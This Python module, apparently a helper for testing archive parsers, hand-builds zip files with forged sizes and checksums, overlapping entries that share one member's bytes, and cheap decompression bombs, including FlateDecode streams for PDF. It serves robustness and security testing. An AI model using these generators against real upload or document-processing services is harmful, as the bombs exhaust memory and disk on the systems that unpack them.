"""Zip files written byte by byte, to say what no honest program says, and bombs that are cheap to make."""

from __future__ import annotations

import functools
import struct
import zlib
from collections.abc import Iterable
from dataclasses import dataclass

MIB = 1024 * 1024


@dataclass(frozen=True, slots=True)
class Member:
    """One member as it is to be written; `size` and `crc` are what it claims, whatever is in it."""

    name: str
    packed: bytes
    size: int
    crc: int = 0
    method: int = 8
    flags: int = 0
    attributes: int = 0


def member(name: str, content: bytes | str, *, flags: int = 0, attributes: int = 0) -> Member:
    """An honest member with this content."""
    data = content.encode() if isinstance(content, str) else content
    packing = zlib.compressobj(6, zlib.DEFLATED, -15)
    packed = packing.compress(data) + packing.flush()
    return Member(name, packed, len(data), zlib.crc32(data), flags=flags, attributes=attributes)


def bomb(name: str, size: int, *, claimed: int | None = None, opening: bytes = b"") -> Member:
    """A member that unpacks to `size` spaces behind `opening`, and claims to unpack to `claimed`."""
    return Member(name, raw_deflate(size, opening), size + len(opening) if claimed is None else claimed)


def raw_deflate(size: int, opening: bytes = b"") -> bytes:
    """A deflate stream of `opening` and then spaces up to `size` bytes, made by repeating one packed piece of it."""
    piece, packed = _piece()
    start = zlib.compressobj(6, zlib.DEFLATED, -15)
    head = start.compress(opening) + start.flush(zlib.Z_FULL_FLUSH)
    end = zlib.compressobj(6, zlib.DEFLATED, -15)
    return head + packed * (size // piece) + end.compress(b" " * (size % piece)) + end.flush()


def zlib_stream(size: int) -> bytes:
    """The same for a PDF's FlateDecode; its checksum is wrong, which every reader of PDF lets pass."""
    return b"\x78\x9c" + raw_deflate(size) + b"\0\0\0\0"


@functools.cache
def _piece() -> tuple[int, bytes]:
    packing = zlib.compressobj(9, zlib.DEFLATED, -15)
    return 16 * MIB, packing.compress(b" " * (16 * MIB)) + packing.flush(zlib.Z_FULL_FLUSH)


def zip_file(members: Iterable[Member], *, same_place: bool = False) -> bytes:
    """A zip file; with `same_place` every entry of its directory leads to the first member's bytes."""
    body, directory = bytearray(), bytearray()
    count = 0
    for entry in members:
        name = entry.name.encode()
        offset = 0 if same_place else len(body)
        wide = entry.size >= 0xFFFFFFFF
        extra = struct.pack("<HHQ", 1, 8, entry.size) if wide else b""
        size = 0xFFFFFFFF if wide else entry.size
        about = struct.pack("<HHHHLLL", entry.flags, entry.method, 0, 33, entry.crc, len(entry.packed), size)
        if not (same_place and count):
            body += b"PK\x03\x04\x14\x00" + about + struct.pack("<HH", len(name), len(extra)) + name + extra
            body += entry.packed
        directory += b"PK\x01\x02\x14\x03\x14\x00" + about
        directory += struct.pack("<HHHHHLL", len(name), len(extra), 0, 0, 0, entry.attributes << 16, offset)
        directory += name + extra
        count += 1
    end = b""
    if count > 0xFFFF:
        end += b"PK\x06\x06" + struct.pack("<QHHLLQQQQ", 44, 45, 45, 0, 0, count, count, len(directory), len(body))
        end += b"PK\x06\x07" + struct.pack("<LQL", 0, len(body) + len(directory), 1)
    short = min(count, 0xFFFF)
    end += b"PK\x05\x06" + struct.pack("<HHHHLLH", 0, 0, short, short, len(directory), len(body), 0)
    return bytes(body + directory) + end
